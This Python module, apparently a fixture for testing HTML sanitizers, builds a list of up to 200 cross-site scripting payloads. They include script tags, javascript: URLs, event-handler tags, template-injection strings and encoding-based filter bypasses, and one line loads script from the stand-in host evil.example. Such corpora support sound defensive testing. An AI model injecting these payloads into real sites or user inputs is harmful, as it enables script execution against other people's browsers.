"""Two hundred texts that would run in a page which takes words for markup."""

from itertools import product

CALL = "alert(1)"
_TAGS = ("img", "svg", "video", "audio", "iframe", "body", "input", "details", "object", "math")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onbegin", "onmouseover", "onanimationstart")
_WHOLE = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script src=//evil.example></script>{CALL}",
    f"<scr<script>ipt>{CALL}</script>",
    f"<a href=javascript:{CALL}>押す</a>",
    f"<a href='java\tscript:{CALL}'>押す</a>",
    f"javascript:{CALL}",
    f"JaVaScRiPt://%0a{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"<iframe srcdoc='<script>{CALL}</script>'>",
    f"<object data='data:text/html,<script>{CALL}</script>'>",
    f"<embed src=javascript:{CALL}>",
    f"<base href=javascript:{CALL}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<form action=javascript:{CALL}><button>押す",
    f"<button formaction=javascript:{CALL}>押す",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><a xlink:href=javascript:{CALL}><text>押す",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<math href=javascript:{CALL}>押す",
    f"<style>*{{background:url(javascript:{CALL})}}</style>",
    f"<link rel=stylesheet href=javascript:{CALL}>",
    f"<template><img src=x onerror={CALL}></template>",
    f"<noscript><img src=x onerror={CALL}></noscript>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f"#{{{CALL}}}",
    f"<%= {CALL} %>",
    f"{{@html '<img src=x onerror={CALL}>'}}",
    f"{{{{name | {CALL}}}}}",
    f"'-{CALL}-'",
    f"\\x3cscript>{CALL}",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"<img src=x onerror\u3000={CALL}>",
    f"\u202e<img src=x onerror={CALL}>",
    f"＜script＞{CALL}＜/script＞",
    f"<!--<img src='--><img src=x onerror={CALL}>'>",
    f"<textarea></textarea><img src=x onerror={CALL}>",
    f"]]><img src=x onerror={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"[押す](javascript:{CALL})",
)
_BEFORE = ("", '">', "'>", "</title>", "</textarea>", "-->", "`>")
_BUILT = (
    f"{before}<{tag} src=x autofocus open {event}={CALL}>"
    for before, tag, event in product(_BEFORE, _TAGS, _EVENTS)
)
PAYLOADS = tuple(dict.fromkeys((*_WHOLE, *list(_BUILT)[:: 490 // 160])))[:200]
SHORT = "<svg onload=alert()>"  # as long as a button's label may be
